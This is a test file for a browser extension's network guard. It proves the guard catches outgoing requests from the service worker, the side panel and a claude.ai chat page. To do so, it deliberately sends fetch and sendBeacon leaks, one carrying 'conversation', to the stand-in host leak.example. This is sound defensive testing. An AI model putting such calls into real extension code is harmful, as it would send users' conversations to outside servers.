/**
 * The guard must be able to fail: a deliberate request from each place our code runs (service
 * worker, extension page, chatbot page where content scripts run) is caught and listed.
 */
import { describe, expect, it } from 'vitest';
import { launchExtension } from './harness';

const CHAT_URL = 'https://claude.ai/chat/guard-test';

describe('network guard', () => {
  it('passes on the real build and fails, listing the URLs, on deliberate leaks', async () => {
    const ext = await launchExtension({ pages: { [CHAT_URL]: '<!doctype html><title>Claude</title><p>Bonjour</p>' } });
    let closed = false;
    try {
      const chat = await ext.openPage(CHAT_URL);
      const panel = await ext.openExtensionPage('sidepanel.html');
      expect(ext.guard.violations()).toEqual([]);

      await ext.serviceWorker.evaluate(() => fetch('https://leak.example/from-worker').catch(() => undefined));
      await panel.evaluate(() => fetch('https://leak.example/from-panel').catch(() => undefined));
      await chat.evaluate(() => navigator.sendBeacon('https://leak.example/from-page', 'conversation'));

      await expect
        .poll(
          () =>
            ext.guard
              .violations()
              .map((v) => new URL(v.url).pathname)
              .sort(),
          { timeout: 10_000 },
        )
        .toEqual(['/from-page', '/from-panel', '/from-worker']);
      const sources = ext.guard.violations().map((v) => v.from);
      expect(sources).toContain('service-worker');
      expect(sources.some((source) => source.startsWith('extension-page'))).toBe(true);

      closed = true;
      await expect(ext.close()).rejects.toThrow(
        /3 request\(s\) tried to leave the browser[\s\S]*leak\.example\/from-worker/,
      );
    } finally {
      if (!closed) await ext.close().catch(() => undefined);
    }
  });
});
